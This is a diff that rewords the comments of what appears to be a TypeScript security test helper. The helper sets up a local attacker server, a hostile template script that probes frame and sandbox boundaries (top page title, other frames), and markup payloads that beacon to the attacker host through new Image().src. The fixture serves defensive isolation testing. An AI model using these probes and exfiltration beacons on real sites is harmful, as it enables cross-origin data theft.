@@ -1,6 +1,6 @@
 import { createServer } from 'node:http';
 
-/** Somebody else's server, which would be glad of anything it is told. It lets every page read its answers. */
+/** Starts the server of an attacker. It accepts all data and allows every page to read its answers. */
 export const openAttacker = async () => {
   const asked: string[] = [];
   const server = createServer((request, response) => {
@@ -15,8 +15,8 @@ export const openAttacker = async () => {
 };
 
 /**
- * A template that tries everything once it is on screen. What came of each try is in its `outcomes`: 'refused' and why, or 'GOT'
- * and what. It sends to the attacker whatever it got.
+ * Returns a template that tries all attacks when it is shown. The result of each attempt is in its `outcomes`: 'refused' with
+ * the reason, or 'GOT' with the data. It sends the data to the attacker.
  */
 export const hostileTemplate = (attacker: string) => `<h1>Hostile {{ words }}</h1>
 <script>
@@ -34,7 +34,7 @@ function attempt(name, act) {
     }, refused);
   } catch (error) { refused(error); }
 }
-/** A try that, were it let, would be seen elsewhere: by the test, or at the attacker's. */
+/** An attempt whose success is visible elsewhere: to the test, or at the attacker. */
 function silently(name, act) { attempt(name, function (refused) { act(); refused('watched'); }); }
 function all(frames) { return Array.from({ length: frames.length }, function (_, at) { return frames[at]; }); }
 
@@ -56,7 +56,7 @@ function startAd() {
   attempt('top page', function () { return top.document.title; });
   attempt('frame element', function (refused) { return frameElement ? 'a frame' : refused('none'); });
   attempt('other frames', function (refused) {
-    // On a TV the next message is opened behind this one some seconds before its turn.
+    // On a TV the next message opens behind this one some seconds before its turn.
     return new Promise(function (done) {
       var tries = top === parent ? 150 : 1;
       (function look() {
@@ -151,7 +151,10 @@ function startAd() {
 function parentOrigin() { return location.ancestorOrigins[0]; }
 </script>`;
 
-/** What an answer can try: markup only, since templates decide which scripts run. Each tells the attacker its name if it runs. */
+/**
+ * Returns an answer with attacks. Answers contain only markup, because templates decide which scripts run. Each attack sends
+ * its name to the attacker if it runs.
+ */
 export const hostileAnswer = (attacker: string) => {
   const run = (name: string) => `new Image().src='${attacker}/ran?${name}'`;
   return [
